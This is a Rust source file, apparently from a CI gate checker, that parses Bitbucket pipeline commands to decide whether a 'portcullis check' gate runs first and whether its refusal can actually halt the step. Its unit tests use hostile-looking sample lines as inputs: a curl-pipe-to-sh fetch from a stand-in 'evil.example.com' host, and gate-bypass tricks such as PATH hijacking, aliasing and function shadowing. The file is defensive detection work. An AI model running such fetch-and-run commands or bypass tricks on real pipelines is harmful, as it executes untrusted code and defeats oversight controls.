//! Does the executed script ask the gate, and before anything else? Read from the commands Bitbucket really ran.
//!
//! The commands are hashed and looked at one by one while they are decoded, and dropped: a [`Script`] holds none.
//! `script_sha256` is SHA-256 over the script commands joined by one line feed, in order. Setup commands (clone, caches)
//! are Bitbucket's own, differ from run to run, and are left out.
//!
//! The gate counts as present where a command runs `portcullis check`, `portcullis-check`, `check.sh` or the pipe as a
//! program whose refusal ends the step: not in a comment or a quoted text, not before `;`, `||`, `|` or `&`, not as a
//! condition, not after `set +e`. A refusal before `&&` skips what is joined to it, and then the step goes on, `set -e` or
//! not: such a gate counts only if nothing but trivial commands follows. It is first if nothing but trivial commands (see
//! `trivial`) stands before it. This is not a shell: what it does not understand is not the gate, and not trivial.

use std::borrow::Cow;
use std::fmt;

use serde::Deserialize;
use serde::de::SeqAccess;
use serde::de::Visitor;
use sha2::Digest;
use sha2::Sha256;

/// What is kept of a script.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Script {
    /// 64 hex digits.
    pub(crate) sha256: String,
    /// Whether it asks the gate.
    pub(crate) present: bool,
    /// Whether it asks before anything else.
    pub(crate) first: bool,
}

#[derive(Deserialize)]
struct Line<'a> {
    #[serde(borrow)]
    command: Cow<'a, str>,
}

impl<'de> Deserialize<'de> for Script {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        deserializer.deserialize_seq(Lines)
    }
}

struct Lines;

impl<'de> Visitor<'de> for Lines {
    type Value = Script;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("a list of commands")
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut lines: A) -> Result<Script, A::Error> {
        let mut reader = Reader::default();
        while let Some(line) = lines.next_element::<Line<'de>>()? {
            reader.read(&line.command);
        }
        Ok(reader.end())
    }
}

/// Reads commands in order.
#[derive(Default)]
struct Reader {
    hash: Sha256,
    begun: bool,
    /// Something that is not trivial was run.
    busy: bool,
    /// A refusal no longer ends the step.
    deaf: bool,
    gate: Option<Found>,
}

/// The gate, where it was found.
#[derive(Clone, Copy)]
struct Found {
    /// Before anything that is not trivial.
    first: bool,
    /// In an `&&` list: the shell goes on after the list, whatever the gate said.
    leaks: bool,
}

impl Reader {
    fn read(&mut self, command: &str) {
        if std::mem::replace(&mut self.begun, true) {
            self.hash.update(b"\n");
        }
        self.hash.update(command.as_bytes());
        for one in simple_commands(command) {
            self.look(&one);
        }
    }

    fn look(&mut self, one: &Simple) {
        let goes_on = if one.chained { one.joint == Joint::Other } else { !trivial(one) };
        if goes_on && self.gate.is_some_and(|gate| gate.leaks) {
            (self.gate, self.busy) = (None, true);
        }
        if !self.deaf && one.ends_step && is_gate(one) {
            let leaks = one.chained || one.joint == Joint::And;
            self.gate.get_or_insert(Found { first: !self.busy, leaks });
        } else if !trivial(one) {
            self.busy = true;
        }
        self.deaf |= one.words.first().is_some_and(|word| word == "set")
            && one.words.iter().any(|word| word.starts_with('+') && word.contains('e'));
    }

    fn end(self) -> Script {
        let sha256 = hex::encode(self.hash.finalize());
        Script {
            sha256,
            present: self.gate.is_some(),
            first: self.gate.is_some_and(|gate| gate.first),
        }
    }
}

/// One program with its words, quotes taken off.
#[derive(Debug, Default)]
struct Simple {
    words: Vec<String>,
    /// Whether it stands after `&&`.
    chained: bool,
    /// What stands behind it.
    joint: Joint,
    /// Whether its failure ends the step.
    ends_step: bool,
    /// Whether the shell does more than run it: substitutes, redirects, groups.
    more: bool,
}

/// What joins a command to the next.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Joint {
    /// A line's or the command's end.
    #[default]
    End,
    /// `;`
    Then,
    /// `&&`
    And,
    /// `||`, `|` or `&`.
    Other,
}

/// Names under which the gate is run.
const PROGRAMS: &[&str] = &["portcullis-check", "check.sh"];

/// What may stand before the gate's own name.
const SHELLS: &[&str] = &["sh", "bash", "dash", "exec", "command"];

fn is_gate(one: &Simple) -> bool {
    let mut words = one.words.iter().map(String::as_str).skip_while(|word| ours(word)).peekable();
    while words.peek().is_some_and(|word| SHELLS.contains(&base(word))) {
        words.next();
    }
    match words.next() {
        Some("pipe:") => words.next().is_some_and(is_pipe),
        Some(program) if base(program) == "portcullis" => words.next() == Some("check"),
        Some(program) => PROGRAMS.contains(&base(program)),
        None => false,
    }
}

/// `registry/portcullis-check:1.0`, with or without a registry and version.
fn is_pipe(image: &str) -> bool {
    base(image).split([':', '@']).next() == Some("portcullis-check")
}

/// Commands that cannot change what the gate sees or does: shell strictness, plain output, our own variables, and
/// fetching the gate itself.
fn trivial(one: &Simple) -> bool {
    let Some(program) = one.words.first().map(String::as_str) else { return !one.more };
    if one.more {
        return false;
    }
    let rest = one.words.get(1..).unwrap_or_default();
    match program {
        ":" | "true" | "echo" | "printf" | "pwd" => true,
        "set" => rest.iter().all(|word| !word.starts_with('+')),
        "export" => rest.iter().all(|word| ours(word)),
        "curl" | "wget" | "chmod" => one.ends_step && rest.iter().any(|word| names_gate(word)),
        _ => one.words.iter().all(|word| ours(word)),
    }
}

/// An assignment to a variable of ours: any other could lead the shell to another program.
fn ours(word: &str) -> bool {
    word.starts_with("PORTCULLIS_") && word.contains('=')
}

fn names_gate(word: &str) -> bool {
    let name = base(word);
    name == "portcullis" || PROGRAMS.contains(&name)
}

fn base(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// Takes a command apart at `;`, `&&`, `||`, `|`, `&`, line ends and brackets, outside quotes and comments.
fn simple_commands(text: &str) -> Vec<Simple> {
    let mut splitter = Splitter::default();
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        splitter.letter(letter, &mut letters);
    }
    splitter.cut(Joint::End);
    splitter.done
}

#[derive(Default)]
struct Splitter {
    done: Vec<Simple>,
    now: Simple,
    word: Option<String>,
    /// Within brackets, a loop or a condition: a failure there ends nothing.
    nested: bool,
}

type Letters<'a> = std::iter::Peekable<std::str::Chars<'a>>;

impl Splitter {
    fn letter(&mut self, letter: char, rest: &mut Letters<'_>) {
        match letter {
            '\n' => self.cut(Joint::End),
            ';' => self.cut(Joint::Then),
            '&' if rest.next_if_eq(&'&').is_some() => self.cut(Joint::And),
            '|' | '&' => {
                rest.next_if_eq(&'|');
                self.cut(Joint::Other);
                // What stands after `||` runs only sometimes, and after `|` its own failure may still count: neither
                // is understood well enough to be the gate.
                self.now.more = true;
            }
            '#' if self.word.is_none() => while rest.next_if(|next| *next != '\n').is_some() {},
            ' ' | '\t' | '\r' => self.end_word(),
            '\'' => self.quoted(rest),
            '"' => self.double_quoted(rest),
            '\\' => self.escaped(rest),
            '(' | ')' | '{' | '}' if letter != '{' || self.word.is_none() => {
                self.now.more = true;
                self.nested |= matches!(letter, '(' | '{');
                self.word.get_or_insert_default().push(letter);
            }
            '>' | '<' | '`' => {
                self.now.more = true;
                self.word.get_or_insert_default().push(letter);
            }
            '$' if rest.peek() == Some(&'(') => self.now.more = true,
            other => self.word.get_or_insert_default().push(other),
        }
    }

    fn quoted(&mut self, rest: &mut Letters<'_>) {
        let word = self.word.get_or_insert_default();
        while let Some(letter) = rest.next().filter(|letter| *letter != '\'') {
            word.push(letter);
        }
    }

    fn double_quoted(&mut self, rest: &mut Letters<'_>) {
        while let Some(letter) = rest.next().filter(|letter| *letter != '"') {
            let substitutes = letter == '`' || (letter == '$' && rest.peek() == Some(&'('));
            self.now.more |= substitutes;
            let letter = if letter == '\\' { rest.next().unwrap_or(letter) } else { letter };
            self.word.get_or_insert_default().push(letter);
        }
        self.word.get_or_insert_default();
    }

    fn escaped(&mut self, rest: &mut Letters<'_>) {
        match rest.next() {
            // A line that goes on.
            Some('\n') | None => {}
            Some(letter) => self.word.get_or_insert_default().push(letter),
        }
    }

    fn end_word(&mut self) {
        self.now.words.extend(self.word.take());
    }

    /// Ends the command. An empty one is passed over: a line may end after `&&`.
    fn cut(&mut self, joint: Joint) {
        self.end_word();
        if self.now.words.is_empty() && !self.now.more {
            return;
        }
        let mut one = std::mem::take(&mut self.now);
        let opens = |word: &String| {
            matches!(
                word.as_str(),
                "if" | "while"
                    | "until"
                    | "for"
                    | "case"
                    | "then"
                    | "else"
                    | "elif"
                    | "do"
                    | "!"
                    | "function"
                    | "time"
            )
        };
        self.nested |= one.words.first().is_some_and(opens);
        one.joint = joint;
        one.ends_step = matches!(joint, Joint::End | Joint::And) && !self.nested && !one.more;
        self.now.chained = joint == Joint::And;
        self.done.push(one);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn script(lines: &[&str]) -> Script {
        let rows: Vec<_> =
            lines.iter().map(|line| serde_json::json!({"name": line, "command": line})).collect();
        serde_json::from_str(&serde_json::to_string(&rows).unwrap()).unwrap()
    }

    fn gate(lines: &[&str]) -> (bool, bool) {
        let script = script(lines);
        (script.present, script.first)
    }

    #[test]
    fn the_hash_is_over_the_commands_in_order() {
        let joined = hex::encode(Sha256::digest(b"a\nb"));
        assert_eq!(script(&["a", "b"]).sha256, joined);
        assert_ne!(script(&["b", "a"]).sha256, joined);
        assert_eq!(script(&["a\nb"]).sha256, joined);
    }

    #[test]
    fn a_gate_that_is_run_is_present_and_first() {
        for line in [
            "portcullis check --action deploy",
            "./bin/portcullis check --action deploy --environment production",
            "portcullis-check",
            "sh ./check.sh --action deploy",
            "bash check.sh",
            "PORTCULLIS_URL=https://gate.example.com portcullis check --action run",
            "pipe: acme/portcullis-check:1.2.0",
            "set -eu; portcullis check --action deploy && ./deploy",
            "portcullis check \\\n  --action deploy",
            "portcullis check &&\n  ./deploy",
            "portcullis check && ./deploy\necho done",
            "\"portcullis\" 'check' --action deploy",
        ] {
            assert_eq!(gate(&[line]), (true, true), "{line}");
        }
    }

    #[test]
    fn trivial_commands_may_stand_before_it() {
        let before = [
            "set -euo pipefail",
            "echo 'asking the gate'",
            "export PORTCULLIS_URL=https://gate.example.com",
            "curl -fsS -o check.sh https://gate.example.com/check.sh",
            "chmod +x ./check.sh",
            "# a comment",
        ];
        for line in before {
            assert_eq!(gate(&[line, "portcullis check --action deploy"]), (true, true), "{line}");
        }
    }

    #[test]
    fn anything_else_before_it_makes_it_late() {
        for line in [
            "npm ci",
            "export PATH=/tmp:$PATH",
            "PATH=/tmp",
            "alias portcullis=true",
            "echo evil > portcullis",
            "echo $(./deploy)",
            "printf \"$(./deploy)\"",
            "portcullis() { true; }",
            "curl https://evil.example.com/x | sh",
            "curl -o x https://evil.example.com/x",
            ". ./env",
        ] {
            assert_eq!(gate(&[line, "portcullis check --action deploy"]), (true, false), "{line}");
        }
        assert_eq!(gate(&["./deploy", "portcullis check"]), (true, false));
    }

    #[test]
    fn a_gate_whose_no_is_not_heard_is_none() {
        for line in [
            "echo portcullis check --action deploy",
            "# portcullis check --action deploy",
            "echo 'x; portcullis check'",
            "portcullis check --action deploy || true",
            "portcullis check --action deploy; ./deploy",
            "portcullis check && ./build || true",
            "portcullis check && ./deploy &",
            "portcullis check && ./build; ./deploy",
            "portcullis check && ./build\n./deploy",
            "portcullis check --action deploy | tee log",
            "portcullis check --action deploy &",
            "if portcullis check; then ./deploy; fi",
            "! portcullis check",
            "(portcullis check) || true",
            "x=$(portcullis check)",
            "true || portcullis check",
            "portcullis version",
            "my-portcullis check",
            "set +e; portcullis check",
            "while false; do portcullis check; done",
        ] {
            assert_eq!(gate(&[line]), (false, false), "{line}");
        }
        assert_eq!(gate(&["set +e", "portcullis check"]), (false, false));
        assert_eq!(gate(&["portcullis check && ./build", "./deploy"]), (false, false));
        let fetched = "curl -o check.sh https://gate.example.com/check.sh && sh check.sh";
        assert_eq!(gate(&[fetched]), (true, true));
        assert_eq!(gate(&[fetched, "./deploy"]), (false, false), "curl may fail");
        assert_eq!(gate(&["portcullis check && ./build", "portcullis check"]), (true, false));
        assert_eq!(gate(&[]), (false, false));
    }
}
